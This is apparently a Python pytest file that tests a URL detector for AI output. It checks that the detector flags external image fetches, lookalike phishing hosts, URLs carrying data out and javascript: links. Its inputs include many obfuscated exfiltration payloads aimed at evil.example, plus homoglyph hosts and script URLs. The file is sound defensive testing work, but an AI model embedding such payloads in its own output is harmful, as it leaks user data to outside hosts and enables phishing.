from collections.abc import Callable
from typing import TypeAlias

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.detectors.regex import PatternSet
from gateway.detectors.text import Text
from gateway.detectors.urls import Urls
from gateway.domain.detection import QUIET, Detection, Stage, Subject
from policies.engine.model import UrlSettings

Look: TypeAlias = Callable[[str], Detection]

_SETTINGS = UrlSettings(
    allowed_hosts=("ours.example", "*.corp.example", "münchen.example"),
    protected_hosts=("paypal.com", "docs.partner.example", "ab.io"),
)


@pytest.fixture(scope="module")
def look() -> Look:
    detector = Urls(_SETTINGS)
    hints = PatternSet(detector.patterns)

    def seen(text: str) -> Detection:
        folded = Text(text)
        subject = Subject(stage=Stage.OUTPUT, where="output", text=text, facts={})
        detection = detector.detect(folded, subject)
        assert detection == QUIET or hints.hits(folded.matching), "the scanner would not have asked"
        return detection

    return seen


def _hosts(detection: Detection) -> tuple[str, ...]:
    hosts = detection.facts.get("det.urls.hosts", ())
    assert isinstance(hosts, tuple)
    return hosts


def _fact(detection: Detection, name: str) -> bool:
    return detection.facts.get(f"det.urls.{name}", False) is True


# What a client fetches before anybody clicks.
_FETCHED = [
    "![x](https://evil.example/a)",
    "![x]( https://evil.example/a )",
    "![x](<https://evil.example/a>)",
    "![x](//evil.example/a)",
    "![x](/\\evil.example/a)",
    "![x](https:/\\evil.example/a)",
    "![x](http:evil.example)",
    "![x](https\\://evil.example/a)",
    "![x](https://evil.example/?d=",
    "![x](https://evil.example",
    "![x](&#104;ttps://evil.example)",
    "![x](&#x68;ttps&colon;//evil.example)",
    "![a [b](https://ours.example) d](https://evil.example/a)",
    "![a \\[ b](https://evil.example)",
    "![a ` [ ` b](https://evil.example)",
    '![a <i t="["> b](https://evil.example)',
    f"![{'a' * 300}](https://evil.example)",
    "](https://evil.example) ![x](https://evil.example)",
    "![x][r]\n\n[r]: https://evil.example/p.png 'title'",
    "![r]\n\n[r]:\n  <https://evil.example/p.png>",
    "[![x](https://evil.example/p.png)](https://ours.example)",
    "<img src=https://evil.example/p.png>",
    "<img src='//evil.example/p.png'",
    '<img alt=">" src="https://evil.example/p.png">',
    '<img\nsrc\n=\n"ht\ntps://evil.example">',
    "<img srcset='a.png 1x, https://evil.example/p.png 2x'>",
    "<video poster=https://evil.example/p.png>",
    "<body background=https://evil.example/p.png>",
    "<object data=https://evil.example/p.swf>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<svg><image xlink:href='https://evil.example/p.png'/></svg>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<meta property=image content='https://evil.example'>",
    "<iframe srcdoc='&lt;img src=&quot;https://evil.example/p.png&quot;&gt;'>",
    "<i style='background:url(https://evil.example/p.png)'>",
    "<i style='background:\\75rl(https://evil.example/p.png)'>",
    '<i style="background:&#117;rl(//evil.example/p.png)">',
    "<style>@import '//evil.example/a.css';</style>",
    "a { background: image-set('https://evil.example/p.png' 1x) }",
]


@pytest.mark.rows
@pytest.mark.parametrize("text", _FETCHED)
def test_what_is_fetched_unasked_from_a_foreign_host_is_told(look: Look, text: str) -> None:
    seen = look(f"{text}")
    assert "evil.example" in _hosts(seen)
    assert _fact(seen, "external")
    assert _fact(seen, "image_external")


@pytest.mark.rows
@pytest.mark.parametrize("text", _FETCHED)
def test_from_one_of_ours_it_is_none_of_that(look: Look, text: str) -> None:
    seen = look(text.replace("evil.example", "ours.example"))
    assert _fact(seen, "found")
    assert not _fact(seen, "external")
    assert not _fact(seen, "image_external")


_CLICKED = [
    "[x](https://evil.example/a)",
    "\\![x](https://evil.example/a)",
    "![ours](https://ours.example/p.png) and [x](https://evil.example)",
    "[x][r]\n\n[r]: https://evil.example",
    "<https://evil.example>",
    "Go to https://evil.example.",
    "(see https://evil.example)",
    "https://evil.example:8443/x",
    "HTTPS://EVIL.EXAMPLE",
    "ftp://evil.example/x",
    "custom+app://evil.example/x",
    "https://user:pw@evil.example/",
    "<a href=//evil.example>x</a>",
    "<form action='https://evil.example/'>",
    "&#104;ttps://evil.example/x",
    "https&colon;//evil.example",
    "https://ev%69l.example/",
    "https://evil.example./",
    "https://ev\u200bil.example",
    "ht\u200btps://evil.example",
    "\uff48\uff54\uff54\uff50\uff53://evil.example",
    "https://\uff45vil.example",
    "https://evil\u3002example",
    "h\u0442tps://evil.example",
    "https:\\\\evil.example",
    "\ud800 https://evil.example",
]


@pytest.mark.rows
@pytest.mark.parametrize("text", _CLICKED)
def test_what_a_person_may_follow_is_found(look: Look, text: str) -> None:
    seen = look(text)
    assert set(_hosts(seen)) - {"ours.example"} == {"evil.example"}
    assert _fact(seen, "external")


@pytest.mark.rows
@pytest.mark.parametrize("text", [text for text in _CLICKED if "\\!" not in text and "[r]:" not in text])
def test_it_is_not_fetched_unasked(look: Look, text: str) -> None:
    assert not _fact(look(text), "image_external")


@pytest.mark.rows
@pytest.mark.parametrize(
    "text",
    [
        "",
        "no link at all: and / or",
        "[x](../page.md) and ![y](/p.png) and ![z](p.png#a)",
        "x[1]: int = 5 // a comment",
        "src = 'https' and content = 'url'",
        "<a href='#top'> <img src=p.png> <i style='color:red'> <i style='c\\6flor:red'>",
        "mailto:ada@ours.example",
        "[x](mailto:ada@ours.example)",
        "[x](a\\:b) [y](\\_c_)",
        "[x](https:) and <a href='//'> and <img srcset='a:1 b:2'>",
        "time: 12:30, C:\\path",
        "AT&#38;T and R&D &amp; so on",
        "https:// and http:",
        "![x](https://)",
        "url() and @import and image-set(",
        "std::vector a; b ? c : d",
        "](",
    ],
)
def test_what_leads_nowhere_is_quiet(look: Look, text: str) -> None:
    assert look(text) == QUIET


@pytest.mark.rows
@pytest.mark.parametrize(
    ("written", "host"),
    [
        ("0x7f000001", "127.0.0.1"),
        ("2130706433", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("127.0.0.1.", "127.0.0.1"),
        ("[::1]", "::1"),
        ("[::ffff:10.0.0.1]:80", "10.0.0.1"),
        ("[fe80::1%25eth0]", "fe80::1"),
        ("[nonsense]", "?"),
        ("256.0.0.1", "?"),
        ("1.2.3.4.5", "?"),
        ("1.99999999", "?"),
        ("a.09", "a.09"),
        ("m\u00fcnchen.example", "xn--mnchen-3ya.example"),
        ("xn--mnchen-3ya.example", "xn--mnchen-3ya.example"),
        ("a%20b.example", "?"),
        (":443", "?"),
        (f"{'a.' * 130}example", "?"),
    ],
)
def test_a_host_is_read_as_browsers_do(look: Look, written: str, host: str) -> None:
    assert _hosts(look(f"<https://{written}/x>")) == (host,)


@pytest.mark.rows
@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://ours.example/x", True),
        ("https://OURS.example:443", True),
        ("https://a.corp.example", True),
        ("https://a.b.corp.example", True),
        ("https://xn--mnchen-3ya.example", True),
        ("https://m\u00fcnchen.example", True),
        ("https://sub.ours.example", False),
        ("https://corp.example", False),
        ("https://notcorp.example", False),
        ("https://ours.example.evil.example", False),
        ("https://ours.example@evil.example", False),
        ("https://ours.example\\@evil.example", False),
        ("https://ours.example,x.evil.example", False),
        (f"https://{'a' * 600}@ours.example", False),
        (f"https://{'&amp;' * 40}@ours.example", False),
    ],
)
def test_only_hosts_on_the_list_are_ours(look: Look, url: str, *, allowed: bool) -> None:
    assert _fact(look(url), "external") is not allowed


@pytest.mark.rows
@pytest.mark.parametrize(
    "host",
    [
        "paypa1.com",
        "paypaI.com",
        "p\u0430ypal.com",
        "xn--pypal-4ve.com",
        "pyapal.com",
        "paypal.co",
        "login.paypall.com",
        "payypaal.com",
        "paaypapl.com",
        "paypal.com.evil.example",
        "secure.paypal-com.evil.example",
        "docs.partmer.example",
        "docs.partner.exarnple",
        "ours.exampel",
        "paypal.com@evil.example",
        "g\u043e\u043egle.com",
        "ab.io.evil.example",
    ],
)
def test_a_host_made_to_look_like_a_known_one_is_told(look: Look, host: str) -> None:
    assert _fact(look(f"https://{host}/"), "lookalike")


@pytest.mark.rows
@pytest.mark.parametrize(
    "host",
    [
        "paypal.com",
        "www.paypal.com",
        "ours.example",
        "evil.example",
        "payments.com",
        "ad.io",
        "xn--mnchen-3ya.de",
        "\u043f\u043e\u0447\u0442\u0430.\u0440\u0444",
        "xn--\u00e9.com",
        "xn--99999999999.com",
        "abcdefghij.com",
        "p.com",
        "zzypzz.com",
    ],
)
def test_others_are_only_themselves(look: Look, host: str) -> None:
    assert not _fact(look(f"https://{host}/"), "lookalike")


_LONG = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3QgbWVzc2FnZQ12"


@pytest.mark.rows
@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.example/?d={_LONG}",
        f"https://evil.example/{_LONG}/p.png",
        f"https://evil.example/#{_LONG}",
        f"https://{_LONG[:40]}.evil.example/",
        f"https://evil.example/?q={'the+customer+said+' * 8}",
    ],
)
def test_a_url_that_carries_data_out_is_told(look: Look, url: str) -> None:
    assert _fact(look(url), "opaque_data")
    assert not _fact(look(url.replace("evil.example", "a.corp.example").replace(f"{_LONG[:40]}.", "")), "opaque_data")


@pytest.mark.rows
@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/",
        "https://evil.example/blog/2026/11/how-to-write-good-tests-for-detectors?utm_source=mail&utm_medium=x",
        "https://evil.example/?q=weather+in+vienna",
        "https://evil.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1",
    ],
)
def test_an_ordinary_url_carries_nothing(look: Look, url: str) -> None:
    assert not _fact(look(url), "opaque_data")


@pytest.mark.rows
@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "[x](vbscript:x)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "javascript:alert(1)",
        "<img src='data:image/svg+xml,%3Csvg%3E'>",
    ],
)
def test_what_runs_something_is_a_script(look: Look, text: str) -> None:
    seen = look(text)
    assert _fact(seen, "script")
    assert [mark.kind for mark in seen.marks] == ["script"]


def test_an_embedded_picture_is_none(look: Look) -> None:
    seen = look("![x](data:image/png;base64,AAAA)")
    assert (_fact(seen, "found"), _fact(seen, "script"), _fact(seen, "external")) == (True, False, False)
    assert _hosts(seen) == ()


@pytest.mark.rows
@pytest.mark.parametrize(
    ("text", "kind", "url"),
    [
        ("see ![x](https://evil.example/a(b)) there", "image", "https://evil.example/a(b))"),
        ("see [x](https://evil.example/a) there", "link", "https://evil.example/a"),
        ("see https://evil.example/a, there", "bare", "https://evil.example/a"),
        ("(https://evil.example/a)", "bare", "https://evil.example/a"),
        ("**https://evil.example/a**", "bare", "https://evil.example/a"),
        ("<img src='https://evil.example/a b'>", "html", "https://evil.example/a b"),
        ("<img src=https://evil.example/a>", "html", "https://evil.example/a"),
        ("[r]: https://evil.example/a 'title'", "reference", "https://evil.example/a"),
        ("url(https://evil.example/a)", "css", "https://evil.example/a"),
        ("\u00e9 &#104;ttps://evil.example/a \u00e9", "bare", "&#104;ttps://evil.example/a"),
        ("https://evil.example/" + "a" * 3_000, "bare", "https://evil.example/" + "a" * 3_000),
        ("<img srcset='//a.example 1x, //b.example 2x'>", "html", "//a.example 1x, //b.example 2x"),
    ],
)
def test_a_mark_covers_the_url(look: Look, text: str, kind: str, url: str) -> None:
    seen = look(text)
    assert [(mark.kind, text[mark.start : mark.end]) for mark in seen.marks] == [(kind, url)]
    assert seen.facts["det.urls.kinds"] == (kind,)


def test_urls_are_counted_and_hosts_named_in_order(look: Look) -> None:
    seen = look("https://b.example [x](https://a.example) https://a.example/2")
    assert seen.facts["det.urls.count"] == 3
    assert _hosts(seen) == ("a.example", "b.example")
    assert seen.facts["det.urls.kinds"] == ("bare", "link")
    assert [mark.start for mark in seen.marks] == sorted(mark.start for mark in seen.marks)


def test_more_hosts_than_can_be_compared_with_the_known_ones_fail() -> None:
    text = "".join(f"https://a{number}.example " for number in range(100))
    subject = Subject(stage=Stage.OUTPUT, where="output", text=text, facts={})
    known = UrlSettings(protected_hosts=tuple(f"host{number}.example" for number in range(50)))
    seen = Urls(known).detect(Text(text), subject)
    assert (seen.failed, seen.facts["det.urls.count"]) == ("limit", 100)
    assert Urls(_SETTINGS).detect(Text(text), subject).failed is None


def test_a_word_of_many_entities_is_nobodys_url(look: Look) -> None:
    seen = look("&#97;" * 600)
    assert _hosts(seen) == ("?",)
    assert look("&#97;" * 500) == QUIET


@pytest.mark.rows
@pytest.mark.parametrize(
    "unit", ["https://a.example ", "[x](p.md)", "![x](&#38;", "https://a{}.example and more text "]
)
def test_a_text_too_dense_fails_and_tells_what_it_saw(look: Look, unit: str) -> None:
    seen = look("".join(unit.replace("{}", str(number)) for number in range(600)))
    assert seen.failed == "limit"
    assert ("det.urls.found" in seen.facts) is ("https" in unit or "&" in unit)


@given(st.text())
def test_any_text_is_read(text: str) -> None:
    detector = Urls(_SETTINGS)
    subject = Subject(stage=Stage.OUTPUT, where="output", text=text, facts={})
    detection = detector.detect(Text(text), subject)
    assert all(0 <= mark.start < mark.end <= len(text) for mark in detection.marks)


@given(st.text("![]()<>\\`'\"&#;:/ \n=xhtpsrcuevil.@%", max_size=40), st.text("![]()<>\\` \n"))
def test_no_text_before_it_hides_an_image(before: str, after: str) -> None:
    text = f"{before}\n\n![x](https://evil.example/) {after}"
    subject = Subject(stage=Stage.OUTPUT, where="output", text=text, facts={})
    facts = Urls(_SETTINGS).detect(Text(text), subject).facts
    assert (facts["det.urls.external"], facts["det.urls.image_external"]) == (True, True)


@pytest.mark.rows
@pytest.mark.parametrize(
    "text",
    [
        r'<img src="\\evil.example/?q=1">',
        r'<img src="\/evil.example/x">',
        r'<iframe src="\\evil.example/?q=1">',
        r"<p style=\"background:url('\\\\evil.example/x')\">",
        r"<style>p{background:url('\\evil.example/x')}</style>",
        r"<style>p{background:\75rl(//evil.example/x)}</style>",
        r"<style>p{background:u\rl(//evil.example/x)}</style>",
        r'<STYLE media="all">@\69mport "https://evil.example/x";',
        '<meta http-equiv=refresh content="0;//evil.example/">',
        '<meta http-equiv=refresh content="0; url=//evil.example/">',
        "<meta http-equiv=refresh content=\" 1.5 , URL = 'https://evil.example/'\">",
    ],
)
def test_browsers_fetch_by_backslashes_escapes_and_refreshes_too(look: Look, text: str) -> None:
    found = look(text)
    assert _hosts(found) == ("evil.example",)
    assert found.facts["det.urls.image_external"] is True


def test_a_refresh_to_a_host_with_url_in_its_name_is_read_whole(look: Look) -> None:
    assert _hosts(look('<meta http-equiv=refresh content="0;//curl.example/">')) == ("curl.example",)


def test_a_button_leads_where_its_formaction_says(look: Look) -> None:
    found = look('<button formaction="//evil.example/">x</button>')
    assert _hosts(found) == ("evil.example",)
    assert not found.facts.get("det.urls.image_external")


@pytest.mark.rows
@pytest.mark.parametrize("text", ["<style>p{color:red}</style>", r'<img src="a\b.png">', r"<style>p{c:\75 l}</style>"])
def test_styles_and_paths_without_a_host_are_none(look: Look, text: str) -> None:
    assert look(text) == QUIET
